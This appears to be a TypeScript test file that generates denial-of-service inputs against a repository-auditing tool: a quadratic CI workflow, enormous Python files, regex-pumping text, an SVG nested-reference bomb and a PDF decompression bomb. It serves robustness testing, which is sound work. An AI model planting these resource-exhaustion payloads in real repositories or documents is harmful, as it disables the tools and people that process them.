// Small files that hold whoever reads them: what grows with the product of two things, or doubles with each line.
import { deflateSync } from 'node:zlib';
import type { Attack } from '../attack.js';

type Files = Record<string, string>;
const lines = (count: number, line: (i: number) => string) => Array.from({ length: count }, (_, i) => line(i)).join('\n');

/** What the author writes, the files, and the rubric that looks at them. */
const rows: readonly (readonly [what: string, files: () => Files, rubric: string])[] = [
	[
		'a workflow of 30 jobs, each of which needs all those before it',
		() => {
			const ids = (count: number) => lines(count, (i) => `j${i},`).replaceAll('\n', '');
			const job = (i: number) => `  j${i}:\n    runs-on: x\n    needs: [${ids(i)}]\n    steps:\n      - run: npm test`;
			return { '.github/workflows/ci.yml': `on: push\njobs:\n${lines(30, job)}\n`, 'package.json': '{"name":"x"}' };
		},
		'supply-chain',
	],
	[
		'8,000 environment variables beside 11 MB of documents',
		() => ({
			'app.py': `import os\nfrom langchain.agents import create_agent\n${lines(8_000, (i) => `a${i} = os.environ["MY_VARIABLE_${i}"]`)}\nagent = create_agent("m", tools=[])\nagent.invoke({})\n`,
			...Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`docs/${i}.md`, `MY_VARIABLES words here ${i}. `.repeat(32_000)])),
		}),
		'agent-service',
	],
	[
		'10,000 imports of modules that are not there, beside a list of 90,000 ignored files',
		() => ({
			'.gitignore': lines(90_000, (i) => `zz/${i}`),
			...Object.fromEntries(Array.from({ length: 5 }, (_, j) => [`pkg/m${j}.py`, lines(3_000, (i) => `from .zq${j}_${i} import y`)])),
		}),
		'automaton-auditor',
	],
	[
		'a final judge of 1,500 tests, each of which sets the score',
		() => {
			const opinions = 'o.score for o in state["opinions"]';
			const rule = (i: number) => `    if any("security ${i}" in o.argument for o in state["opinions"]):
        final = min(${i % 5}, final)
    elif max(${opinions}) - min(${opinions}) > ${i % 4}:
        final = sorted(${opinions})[${i % 3}]`;
			return {
				'src/graph.py':
					'from langgraph.graph import END, START, StateGraph\nfrom src.chief import decide\n\ng = StateGraph(dict)\ng.add_node("chief_justice", decide)\ng.add_edge(START, "chief_justice")\ng.add_edge("chief_justice", END)\napp = g.compile()\n',
				'src/chief.py': `def decide(state):\n    final = mean(state["opinions"])\n${lines(750, rule)}\n    return {"report": f"# Report\\n\\nScore: {final}"}\n`,
			};
		},
		'automaton-auditor',
	],
	['a graph of 800 nodes and 2,400 edges', () => ({ 'src/graph.py': GRAPH }), 'automaton-auditor'],
	[
		'functions of one file: 400 answers cut at a separator, 2,000 calls of a model, 2,000 settings of 2,000 callers and 9,000 silent handlers',
		() => ({
			'src/agent.py': `import os\nfrom langchain_openai import ChatOpenAI\n\nllm = ChatOpenAI(model="m", timeout=3)\n\ndef cut(x):\n${lines(400, () => '    r = llm.invoke(x)\n    q = r.content.split(",")\n    for i in q:\n        z.append(i)')}\n\ndef ask(x):\n${lines(2_000, () => '    r = llm.invoke(x)')}\n\ndef read(x):\n${lines(2_000, () => '    os.getenv(x)')}\n\n${lines(2_000, () => 'read("DOOR_KEY")')}\n${lines(9_000, () => 'try:\n pass\nexcept: # a\n pass')}\n`,
		}),
		'agent-service',
	],
	[
		'4,000 tests of a line, each of which calls a function of the file',
		() => ({
			'package.json': '{"name":"x","version":"1.0.0","main":"src/a.js"}',
			'src/a.js': 'export const f = 1;\n',
			'test/a.test.ts': `import { test } from 'vitest';\n${lines(4_000, (i) => `test('a${i}', () => { g(${i}); });`)}\nfunction g(x) { h(x); }\nfunction h(x) { k(x); }\nfunction k(x) {}\n`,
		}),
		'typescript-library',
	],
	['words without an end for five expressions over code and imports', pumped, 'automaton-auditor'],
];

/** Words that five expressions once read on from, each of them to the end. */
function pumped(): Files {
	const times = (text: string) => text.repeat(12_000);
	return {
		'src/a.py': `${['child_process ', 'Annotated [', 'StateGraph ['].map(times).join('\n')}\n`,
		'src/b.py': `def judge_all():\n    pass\n${times('import(')}\n${times('import a, \\\n')}`,
		'reports/final_report.md': '# Final report\n\n`judge_all` in `src/b.py` gives the scores.\n',
	};
}

const NODES = 800;
const GRAPH = `from langgraph.graph import START, StateGraph

def work(state):
    return {}

g = StateGraph(dict)
${lines(NODES, (i) => `g.add_node("n${i}", work)`)}
g.add_edge(START, "n0")
${lines(NODES, (i) => [i + 1, i * 7 + 3, i * 13 + 5].map((to) => `g.add_edge("n${i}", "n${to % NODES}")`).join('\n'))}
app = g.compile()
app.invoke({})
`;

const products = rows.map(
	([what, files, rubric]): Attack => ({
		way: `${what}, to hold whoever audits it`,
		by: 'author',
		attempt: async (lab) => {
			const { folder } = lab.repository(files());
			const { status, stderr } = await lab.auditor(['audit', folder, '--rubric', rubric, '-q', '--no-cache']);
			return status === 0 ? null : `status ${status}: ${stderr.slice(0, 300)}`;
		},
	}),
);

/** A PDF of a page that draws one picture of 100 megapixels so many times. */
function drawnAgain(times: number): Buffer {
	const stream = (entries: string, data: Buffer) => {
		const packed = deflateSync(data, { level: 9 });
		return Buffer.concat([
			Buffer.from(`<<${entries}/Filter/FlateDecode/Length ${packed.length}>>stream\n`),
			packed,
			Buffer.from('\nendstream'),
		]);
	};
	const drawn = `BT /F 12 Tf 20 700 Td (Architecture of the automaton auditor) Tj ET\n${'q 500 0 0 500 20 20 cm /I Do Q '.repeat(times)}`;
	const size = '/Width 10000/Height 10000/BitsPerComponent 8/ColorSpace/DeviceGray';
	const objects = [
		'<</Type/Catalog/Pages 2 0 R>>',
		'<</Type/Pages/Kids[3 0 R]/Count 1>>',
		'<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</Font<</F 5 0 R>>/XObject<</I 6 0 R>>>>/Contents 4 0 R>>',
		stream('', Buffer.from(drawn)),
		'<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
		stream(`/Type/XObject/Subtype/Image${size}`, Buffer.alloc(100_000_000, 128)),
	];
	const numbered = objects.map((text, i) =>
		Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(text as string), Buffer.from('\nendobj\n')]),
	);
	return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...numbered, Buffer.from('trailer<</Size 7/Root 1 0 R>>\n%%EOF\n')]);
}

/** A picture whose parts draw one another: a billion boxes in a kilobyte. */
const billion = (name: string) =>
	`<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><title>${name}</title><defs><rect id="g0" width="90" height="40"/>${lines(9, (i) => `<g id="g${i + 1}">${`<use href="#g${i}"/>`.repeat(10)}</g>`)}</defs><use href="#g9"/></svg>`;

const drawings: readonly Attack[] = [
	{
		way: 'three pictures of a kilobyte whose parts draw one another a billion times, to hold whoever looks at them',
		by: 'author',
		attempt: async (lab) => {
			const names = ['a', 'b', 'c'];
			const { folder } = lab.repository({
				'app.py': 'print(1)\n',
				'reports/final_report.md': `# Final report\n\n${names.map((name) => `![The architecture](${name}.svg)`).join('\n\n')}\n`,
				...Object.fromEntries(names.map((name) => [`reports/${name}.svg`, billion(name)])),
			});
			const { status, stderr } = await lab.auditor(['audit', folder, '-q', '--no-cache']);
			return status === 0 ? null : `status ${status}: ${stderr.slice(0, 300)}`;
		},
	},
	{
		way: 'a report of 100 kB that draws one picture of 100 megapixels 200 times, to hold whoever looks at it',
		by: 'author',
		attempt: async (lab) => {
			const { folder } = lab.repository({ 'app.py': 'print(1)\n', 'reports/final_report.pdf': drawnAgain(200) });
			const { status, stderr } = await lab.auditor(['audit', folder, '-q', '--no-cache']);
			return status === 0 ? null : `status ${status}: ${stderr.slice(0, 300)}`;
		},
	},
];

export const attacks: readonly Attack[] = [...products, ...drawings];
